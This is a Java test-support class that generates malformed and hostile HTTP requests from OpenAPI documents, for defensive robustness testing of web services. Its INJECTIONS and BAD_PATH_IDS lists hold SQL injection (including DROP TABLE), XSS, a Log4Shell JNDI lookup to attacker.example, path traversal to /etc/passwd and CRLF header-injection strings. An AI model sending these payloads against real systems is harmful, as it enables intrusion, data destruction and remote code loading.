package org.sansho.testsupport.security;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import org.sansho.testsupport.TestTokens;

import javax.sql.DataSource;

import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Consumer;
import java.util.regex.Pattern;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hostile requests generated from a service's OpenAPI document and the valid requests of its authorization rules:
 * each case breaks one thing of an otherwise valid request of an allowed caller — malformed or oversized JSON, deep
 * nesting, wrong types, missing or null required fields, unknown enum values, strings beyond their maximum length,
 * numbers beyond their bounds, bad dates and ids, invalid 法人番号 check digits, invalid ids in paths, bad values of
 * typed query parameters, unsupported media types.
 *
 * <p>{@link Case#mustReject()} cases must be answered 4xx problem+json and change nothing. Injection strings in free
 * text fields and query parameters are legitimate text, so those cases (and unknown properties, which are ignored)
 * only must never cause a 5xx or leak internals; they may be accepted.
 */
public final class HostileInputs {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    /** Larger than any service's configured body limit (quarkus.http.limits.max-body-size; catalog-service: 16M). */
    public static final int OVERSIZED_BODY = 17 * 1024 * 1024;
    /** Longer than any free text a service stores: every string field must declare a smaller maximum length. */
    public static final int OVERSIZED_STRING = 100_000;
    public static final List<String> INJECTIONS = List.of(
            "' OR '1'='1", "1; DROP TABLE contract; --", "\"; select pg_sleep(5); --", "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/a}", "../../../../etc/passwd", "%00%0d%0aSet-Cookie: x=y",
            "{{7*7}}#{7*7}", "\\u0000\u202e\ud83d\ude00", "' UNION SELECT table_name FROM information_schema.tables --");
    private static final List<String> BAD_PATH_IDS = List.of(
            "not-a-uuid", "00000000-0000-0000-0000-00000000000g", "-1", "0", "' OR '1'='1",
            "..%2F..%2Fetc%2Fpasswd", "%00", "%3Cscript%3E", "${jndi:ldap:%2F%2Fx}", "a".repeat(1000));
    private static final Pattern STACK_TRACE = Pattern.compile("(\\tat |\\bat [a-z]+\\.[a-z]+\\.[A-Za-z.$]+\\(|"
            + "\\.java:\\d+\\)|Exception:|org\\.hibernate\\.|org\\.postgresql\\.|io\\.vertx\\.|java\\.lang\\.)");

    /** One generated request. */
    public record Case(String operation, String name, String method, URI uri, Map<String, String> headers, byte[] body,
                       boolean mustReject) {
        @Override
        public String toString() {
            return operation + " [" + name + "]";
        }
    }

    /** A case and what it got. */
    public record Outcome(Case hostile, Probe.Answer answer, String problem) {
        @Override
        public String toString() {
            return hostile + ": " + (answer == null ? "" : answer.status() + " ") + problem
                    + (answer == null ? "" : " — " + answer.excerpt());
        }
    }

    private HostileInputs() {
    }

    /**
     * The suite's expectation for one service, from its OpenAPI document and its access rules: at least 500 cases; each
     * that must be rejected gets a 4xx problem+json and leaves every table and topic as it was; no case at all (the
     * injection strings and unknown fields included) gets a 5xx or reveals internals. Prints the count.
     */
    public static void assertRefused(String service, URI base, DataSource dataSource, World world) {
        assertRefused(service, base, dataSource, world, 500);
    }

    /**
     * The same for a service with few operations, whose document yields fewer than the suite's 500 cases: at least
     * {@code minCases}, set a little below what the service's document yields, so that a lost operation or field shows.
     */
    public static void assertRefused(String service, URI base, DataSource dataSource, World world, int minCases) {
        List<Case> cases = generate(base, OpenApiOperations.of(service), AuthorizationRules.load(), world);
        List<Case> rejected = cases.stream().filter(Case::mustReject).toList();
        List<Case> tolerated = cases.stream().filter(c -> !c.mustReject()).toList();

        long start = System.nanoTime();
        Map<String, Long> before = StateSnapshot.settled(dataSource);
        List<Outcome> failures = rejected.stream().map(HostileInputs::send).filter(o -> o.problem() != null).toList();
        Map<String, Long> after = StateSnapshot.settled(dataSource);
        List<Outcome> toleratedFailures = tolerated.stream().map(HostileInputs::send)
                .filter(o -> o.problem() != null).toList();
        System.out.printf("%s hostile input: %d cases (%d must be rejected, %d injection/unknown-field cases must not "
                        + "fail) in %d ms; %d failures%n", service, cases.size(), rejected.size(), tolerated.size(),
                (System.nanoTime() - start) / 1_000_000, failures.size() + toleratedFailures.size());

        assertThat(cases).hasSizeGreaterThanOrEqualTo(minCases);
        assertThat(failures).as("cases that must be rejected").isEmpty();
        assertThat(StateSnapshot.differences(before, after)).as("tables and topics after the rejected cases").isEmpty();
        assertThat(toleratedFailures).as("injection strings and unknown fields").isEmpty();
    }

    /**
     * Every case for every operation that has a rule; the caller is the first allowed role of the rule (none for a
     * public operation).
     */
    public static List<Case> generate(URI base, OpenApiOperations api, AuthorizationRules rules, World world) {
        List<Case> cases = new ArrayList<>();
        for (OpenApiOperations.Operation op : api.operations()) {
            AuthorizationRules.Rule rule = rules.rule(op);
            if (rule == null || rule.stream()) {
                continue;
            }
            String token = null;
            if (!rule.isPublic()) {
                String role = AuthorizationMatrix.ROLES.stream().filter(rule.roles()::contains).findFirst()
                        .orElse(null);
                if (role == null) {
                    continue;
                }
                UUID org = world.organizationOf(role);
                token = org == null ? TestTokens.token(role) : TestTokens.token(role, org);
            }
            new Generator(base, op, rule, world, token, api, cases::add).all();
        }
        return cases;
    }

    /** Sends a case and judges the answer. */
    public static Outcome send(Case c) {
        Probe.Answer answer;
        try {
            answer = Probe.send(c.method(), c.uri(), c.headers(), c.body(), false);
        } catch (RuntimeException e) {
            return new Outcome(c, null, "no answer: " + e);
        }
        return new Outcome(c, answer, judge(c, answer));
    }

    /** Null when the answer is acceptable for the case. */
    public static String judge(Case c, Probe.Answer a) {
        if (a.status() >= 500) {
            return "a server error";
        }
        if (c.mustReject() && (a.status() < 400)) {
            return "accepted, but must be rejected with a 4xx";
        }
        if (a.status() >= 400 && !a.isProblem()) {
            return "a " + a.status() + " that is not application/problem+json but '" + a.contentType() + "'";
        }
        return leak(a);
    }

    /** Null when the answer reveals no stack trace, server product or version. */
    public static String leak(Probe.Answer a) {
        if (a.status() >= 400 && STACK_TRACE.matcher(a.body()).find()) {
            return "the body reveals internals (stack trace or class names)";
        }
        if (a.header("X-Powered-By").isPresent()) {
            return "an X-Powered-By header";
        }
        if (a.header("Server").filter(s -> s.matches(".*\\d.*")).isPresent()) {
            return "a Server header with a version: " + a.header("Server").get();
        }
        return null;
    }

    private static final class Generator {
        private final URI base;
        private final OpenApiOperations.Operation op;
        private final AuthorizationRules.Rule rule;
        private final World world;
        private final String token;
        private final OpenApiOperations api;
        private final Consumer<Case> out;
        private final String validBody;

        Generator(URI base, OpenApiOperations.Operation op, AuthorizationRules.Rule rule, World world, String token,
                  OpenApiOperations api, Consumer<Case> out) {
            this.base = base;
            this.op = op;
            this.rule = rule;
            this.world = world;
            this.token = token;
            this.api = api;
            this.out = out;
            this.validBody = rule.body() == null ? null : world.fill(rule.body());
        }

        void all() {
            pathCases();
            queryCases();
            headerCases();
            if (op.bodySchema() != null && validBody != null && jsonBody()) {
                bodyCases();
            }
            if (op.bodySchema() != null && validBody != null && !jsonBody()) {
                rawBodyCases();
            }
        }

        /**
         * A body that is not JSON (a CSV file, a spreadsheet): no body, bytes of no format, text that is not UTF-8,
         * a JSON document instead, an oversized one, and the valid body declared as JSON. Each must be refused.
         */
        private void rawBodyCases() {
            emitBody("body: empty", new byte[0], true);
            byte[] garbage = new byte[4096];
            new java.util.Random(26).nextBytes(garbage);
            emitBody("body: random bytes", garbage, true);
            emitBody("body: invalid UTF-8", new byte[] {'a', ',', 'b', '\n', (byte) 0xC3, (byte) 0x28, ',', 'x', '\n'},
                    true);
            emitBody("body: a JSON document", "{\"a\":[1,2,{\"b\":null}]}".getBytes(StandardCharsets.UTF_8), true);
            emitBody("body: a ZIP archive that is no workbook", new byte[] {'P', 'K', 3, 4, 20, 0, 0, 0, 8, 0}, true);
            byte[] huge = new byte[OVERSIZED_BODY];
            java.util.Arrays.fill(huge, (byte) 'A');
            emitBody("body: oversized (" + OVERSIZED_BODY / 1024 + " KiB)", huge, true);
            emit("Content-Type: application/json", uri(rule.query()),
                    with(headers(true), "Content-Type", "application/json"), bodyBytes(), true);
        }

        private boolean jsonBody() {
            return op.bodyMediaType() == null || op.bodyMediaType().contains("json");
        }

        private void pathCases() {
            for (OpenApiOperations.Parameter p : op.parameters("path")) {
                JsonNode schema = api.resolve(p.schema());
                for (String bad : BAD_PATH_IDS) {
                    Map<String, String> path = new LinkedHashMap<>();
                    rule.path().forEach((k, v) -> path.put(k, world.fill(v)));
                    String raw = base.toString().replaceAll("/$", "") + op.path();
                    for (Map.Entry<String, String> e : path.entrySet()) {
                        String value = AuthorizationMatrix.encode(e.getKey().equals(p.name()) ? bad : e.getValue())
                                .replace("+", "%20");
                        raw = raw.replace("{" + e.getKey() + "}", value);
                    }
                    String q = query(rule.query());
                    emit("path " + p.name() + "=" + abbreviate(bad), URI.create(raw + q), headers(true), bodyBytes(),
                            !admits(schema, bad));
                }
            }
        }

        private void queryCases() {
            for (OpenApiOperations.Parameter p : op.parameters("query")) {
                JsonNode schema = api.resolve(p.schema());
                for (Map.Entry<String, Boolean> bad : badScalars(schema, true).entrySet()) {
                    Map<String, String> query = new LinkedHashMap<>(rule.query());
                    query.put(p.name(), bad.getKey());
                    emit("query " + p.name() + "=" + abbreviate(bad.getKey()), uri(query), headers(true), bodyBytes(),
                            bad.getValue());
                }
            }
        }

        private void headerCases() {
            boolean write = op.bodySchema() != null;
            emit("Accept: application/xml", uri(rule.query()), with(headers(true), "Accept", "application/xml"),
                    bodyBytes(), false);
            if (op.parameters("header").stream().anyMatch(p -> p.name().equalsIgnoreCase("If-Match"))) {
                emit("If-Match: a stale version", uri(rule.query()), with(headers(true), "If-Match", "\"999999\""),
                        bodyBytes(), true);
                emit("If-Match: garbage", uri(rule.query()), with(headers(true), "If-Match", "garbage"),
                        bodyBytes(), true);
            }
            if (write && jsonBody() && validBody != null) {
                emit("Content-Type: text/plain", uri(rule.query()), with(headers(true), "Content-Type", "text/plain"),
                        bodyBytes(), true);
                emit("Content-Type: application/xml", uri(rule.query()),
                        with(headers(true), "Content-Type", "application/xml"), "<a/>".getBytes(StandardCharsets.UTF_8),
                        true);
            }
        }

        private void bodyCases() {
            Map<String, String> malformed = new LinkedHashMap<>();
            malformed.put("empty body", "");
            malformed.put("truncated object", "{");
            malformed.put("truncated member", "{\"a\":");
            malformed.put("not JSON", "not json at all");
            malformed.put("an array", "[]");
            malformed.put("null", "null");
            malformed.put("a number", "123");
            malformed.put("a string", "\"text\"");
            malformed.put("trailing comma", validBody.replaceFirst("}\\s*$", ",}"));
            malformed.put("single quotes", "{'a':'b'}");
            malformed.put("comment", "/* x */" + validBody);
            malformed.put("deeply nested arrays", "[".repeat(100_000) + "]".repeat(100_000));
            malformed.put("deeply nested objects", "{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000));
            malformed.put("duplicate and nested garbage", validBody.replaceFirst("}\\s*$", ",\"x\":{\"y\":[}"));
            malformed.forEach((name, body) -> emitBody("body: " + name, body.getBytes(StandardCharsets.UTF_8), true));
            emitBody("body: invalid UTF-8", new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'},
                    true);
            StringBuilder huge = new StringBuilder(OVERSIZED_BODY + 64);
            huge.append("{\"padding\":\"");
            while (huge.length() < OVERSIZED_BODY) {
                huge.append("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");
            }
            huge.append("\"}");
            emitBody("body: oversized (" + OVERSIZED_BODY / 1024 + " KiB)", huge.toString().getBytes(StandardCharsets.UTF_8),
                    true);
            JsonNode valid;
            try {
                valid = JSON.readTree(validBody);
            } catch (Exception e) {
                throw new IllegalStateException(op.key() + ": the rule's body is not JSON: " + validBody, e);
            }
            ObjectNode unknown = valid.isObject() ? ((ObjectNode) valid.deepCopy()) : null;
            if (unknown != null) {
                unknown.put("unknownProperty", "x");
                emitBody("body: an unknown property", bytes(unknown), false);
            }
            fields(valid, api.resolve(op.bodySchema()), "");
        }

        /** Mutations of every property the schema declares, where the valid body has its parent object. */
        private void fields(JsonNode root, JsonNode schema, String pointer) {
            JsonNode here = pointer.isEmpty() ? root : root.at(pointer);
            if (!here.isObject()) {
                return;
            }
            java.util.Set<String> required = new java.util.HashSet<>();
            schema.path("required").forEach(r -> required.add(r.asText()));
            for (var it = schema.path("properties").fields(); it.hasNext(); ) {
                var property = it.next();
                String name = property.getKey();
                String at = pointer + "/" + name;
                JsonNode ps = api.resolve(property.getValue());
                if (required.contains(name) && here.has(name)) {
                    emitBody("missing " + at, bytes(mutate(root, pointer, o -> o.remove(name))), true);
                    emitBody("null " + at, bytes(mutate(root, pointer, o -> o.putNull(name))), true);
                }
                String type = ps.path("type").asText(ps.has("properties") ? "object" : "");
                switch (type) {
                    case "object" -> {
                        emitBody("wrong type " + at, bytes(mutate(root, pointer, o -> o.put(name, "text"))), true);
                        if (here.path(name).isObject()) {
                            fields(root, ps, at);
                        }
                    }
                    case "array" -> arrayCases(root, pointer, name, ps, at);
                    default -> {
                        for (Map.Entry<JsonNode, Boolean> bad : badValues(ps, name).entrySet()) {
                            emitBody("value " + at + "=" + abbreviate(bad.getKey().toString()),
                                    bytes(mutate(root, pointer, o -> o.set(name, bad.getKey()))), bad.getValue());
                        }
                    }
                }
            }
        }

        private void arrayCases(JsonNode root, String pointer, String name, JsonNode ps, String at) {
            emitBody("wrong type " + at, bytes(mutate(root, pointer, o -> o.put(name, "text"))), true);
            JsonNode items = api.resolve(ps.path("items"));
            JsonNode current = root.at(at);
            if (ps.path("minItems").asInt(0) > 0) {
                emitBody("empty " + at, bytes(mutate(root, pointer, o -> o.putArray(name))), true);
            }
            if (current.isArray() && current.size() > 0) {
                JsonNode first = current.get(0);
                List<JsonNode> tooMany = ps.has("maxItems")
                        ? items(items, first, ps.get("maxItems").asInt() + 1, ps.path("uniqueItems").asBoolean())
                        : List.of();
                if (!tooMany.isEmpty()) {
                    emitBody("too many items " + at + " (" + tooMany.size() + ")", bytes(mutate(root, pointer,
                            o -> o.putArray(name).addAll(tooMany))), true);
                }
                emitBody("null item " + at, bytes(mutate(root, pointer, o -> o.putArray(name).addNull())), true);
                String itemType = items.path("type").asText(items.has("properties") ? "object" : "");
                if (itemType.equals("object")) {
                    emitBody("wrong item type " + at, bytes(mutate(root, pointer, o -> o.putArray(name).add(42))), true);
                    fields(root, items, at + "/0");
                } else {
                    for (Map.Entry<JsonNode, Boolean> bad : badValues(items, name).entrySet()) {
                        emitBody("item " + at + "[0]=" + abbreviate(bad.getKey().toString()),
                                bytes(mutate(root, pointer, o -> o.putArray(name).add(bad.getKey()))), bad.getValue());
                    }
                }
            }
        }

        /**
         * Whether a path value is one the parameter's schema allows (a well-formed key such as {@code 0} where the
         * document declares a pattern rather than a UUID): such a value may name a record, and an upsert may create it,
         * so it is held only to "no 5xx, no leak". A value of a parameter the document does not constrain must name
         * nothing and be refused.
         */
        private static boolean admits(JsonNode schema, String value) {
            if (schema.path("format").asText().equals("uuid") || !schema.has("pattern")) {
                return false;
            }
            return Pattern.compile(schema.get("pattern").asText()).matcher(value).matches()
                    && value.length() <= schema.path("maxLength").asInt(Integer.MAX_VALUE);
        }

        /**
         * {@code count} items for an array: copies of its first item, or, where the schema declares
         * {@code uniqueItems} (a set: duplicates may be merged), distinct values — none when the item type cannot have
         * that many (an enum with fewer values, objects).
         */
        private static List<JsonNode> items(JsonNode schema, JsonNode first, int count, boolean unique) {
            List<JsonNode> items = new ArrayList<>();
            if (!unique) {
                for (int i = 0; i < count; i++) {
                    items.add(first.deepCopy());
                }
            } else if (schema.has("enum")) {
                schema.get("enum").forEach(v -> items.add(v.deepCopy()));
            } else if (schema.path("type").asText().equals("string") && !schema.has("format")) {
                for (int i = 0; i < count; i++) {
                    items.add(TextNode.valueOf(first.asText() + i));
                }
            } else if (schema.path("type").asText().equals("integer")) {
                for (int i = 0; i < count; i++) {
                    items.add(NODES.numberNode(first.asLong() + i));
                }
            }
            return items.size() < count ? List.of() : items.subList(0, count);
        }

        /** Bad JSON values for a scalar schema; the flag says whether the value must be rejected. */
        private Map<JsonNode, Boolean> badValues(JsonNode schema, String name) {
            Map<JsonNode, Boolean> bad = new LinkedHashMap<>();
            badScalars(schema, false).forEach((text, reject) -> bad.put(typed(schema, text), reject));
            String type = schema.path("type").asText();
            if (type.equals("string")) {
                bad.put(NODES.objectNode().put("x", 1), true);
                bad.put(NODES.arrayNode().add("x"), true);
                if (name.equals("corporateNumber")) {
                    bad.put(TextNode.valueOf("1000012050002"), true);
                    bad.put(TextNode.valueOf("123456789012"), true);
                    bad.put(TextNode.valueOf("１２３４５６７８９０１２３"), true);
                }
            } else if (type.equals("integer") || type.equals("number") || type.equals("boolean")) {
                bad.put(NODES.objectNode().put("x", 1), true);
            }
            return bad;
        }

        private static JsonNode typed(JsonNode schema, String text) {
            String type = schema.path("type").asText();
            if ((type.equals("integer") || type.equals("number")) && text.matches("-?\\d+(\\.\\d+)?")) {
                return text.contains(".") ? NODES.numberNode(new java.math.BigDecimal(text))
                        : NODES.numberNode(new java.math.BigInteger(text));
            }
            return TextNode.valueOf(text);
        }

        /**
         * Bad values (as text) for a scalar schema. In a query string every value is text; in a body numbers become
         * JSON numbers. The flag says whether the value must be rejected.
         */
        private static Map<String, Boolean> badScalars(JsonNode schema, boolean query) {
            Map<String, Boolean> bad = new LinkedHashMap<>();
            String type = schema.path("type").asText();
            String format = schema.path("format").asText();
            if (schema.has("enum")) {
                bad.put("NOT_A_KNOWN_VALUE", true);
                bad.put("' OR '1'='1", true);
                return bad;
            }
            switch (type) {
                case "integer", "number" -> {
                    bad.put("abc", true);
                    if (type.equals("integer")) {
                        bad.put("1.5", true);
                    }
                    bad.put("99999999999999999999999", true);
                    if (schema.has("minimum")) {
                        bad.put(new java.math.BigDecimal(schema.get("minimum").asText()).subtract(java.math.BigDecimal.ONE)
                                .stripTrailingZeros().toPlainString(), true);
                    }
                    if (schema.has("maximum")) {
                        bad.put(new java.math.BigDecimal(schema.get("maximum").asText()).add(java.math.BigDecimal.ONE)
                                .stripTrailingZeros().toPlainString(), true);
                    }
                }
                case "boolean" -> bad.put(query ? "' OR '1'='1" : "maybe", !query);
                case "string" -> {
                    switch (format) {
                        case "uuid" -> {
                            bad.put("not-a-uuid", true);
                            bad.put("' OR '1'='1", true);
                        }
                        case "date" -> {
                            bad.put("2024-02-30", true);
                            bad.put("2024-13-01", true);
                            bad.put("yesterday", true);
                            bad.put("' OR '1'='1", true);
                        }
                        case "date-time" -> {
                            bad.put("2024-01-01T25:00:00Z", true);
                            bad.put("not a time", true);
                        }
                        default -> {
                            if (schema.has("maxLength")) {
                                bad.put("x".repeat(schema.get("maxLength").asInt() + 1), true);
                            } else if (!query) {
                                bad.put("x".repeat(OVERSIZED_STRING), true);
                            }
                            if (schema.has("pattern")) {
                                bad.put("   ", true);
                            }
                            INJECTIONS.forEach(i -> bad.put(i, false));
                        }
                    }
                }
                default -> {
                }
            }
            return bad;
        }

        private JsonNode mutate(JsonNode root, String pointer, Consumer<ObjectNode> change) {
            JsonNode copy = root.deepCopy();
            JsonNode target = pointer.isEmpty() ? copy : copy.at(pointer);
            change.accept((ObjectNode) target);
            return copy;
        }

        private static byte[] bytes(JsonNode node) {
            try {
                return JSON.writeValueAsBytes(node);
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
        }

        private void emitBody(String name, byte[] body, boolean mustReject) {
            emit(name, uri(rule.query()), headers(true), body, mustReject);
        }

        private void emit(String name, URI uri, Map<String, String> headers, byte[] body, boolean mustReject) {
            out.accept(new Case(op.key(), name, op.method(), uri, headers, body, mustReject));
        }

        private URI uri(Map<String, String> query) {
            Map<String, String> filled = new LinkedHashMap<>();
            query.forEach((k, v) -> filled.put(k, v));
            return AuthorizationMatrix.uri(base, op.path(), rule.path(), filled, world);
        }

        private String query(Map<String, String> query) {
            if (query.isEmpty()) {
                return "";
            }
            StringBuilder q = new StringBuilder("?");
            query.forEach((k, v) -> q.append(q.length() > 1 ? "&" : "").append(AuthorizationMatrix.encode(k))
                    .append('=').append(AuthorizationMatrix.encode(world.fill(v))));
            return q.toString();
        }

        private Map<String, String> headers(boolean withToken) {
            Map<String, String> headers = new LinkedHashMap<>();
            headers.put("Accept", "application/json, application/problem+json, */*");
            rule.headers().forEach((k, v) -> headers.put(k, world.fill(v)));
            if (withToken && token != null) {
                headers.put("Authorization", "Bearer " + token);
            }
            if (op.bodySchema() != null) {
                headers.put("Content-Type", op.bodyMediaType() == null ? "application/json" : op.bodyMediaType());
            }
            return headers;
        }

        private byte[] bodyBytes() {
            return validBody == null ? null : validBody.getBytes(StandardCharsets.UTF_8);
        }

        private static Map<String, String> with(Map<String, String> headers, String name, String value) {
            Map<String, String> copy = new LinkedHashMap<>(headers);
            copy.put(name, value);
            return copy;
        }

        private static String abbreviate(String s) {
            return s.length() > 40 ? s.substring(0, 20) + "…(" + s.length() + " chars)" : s;
        }
    }
}
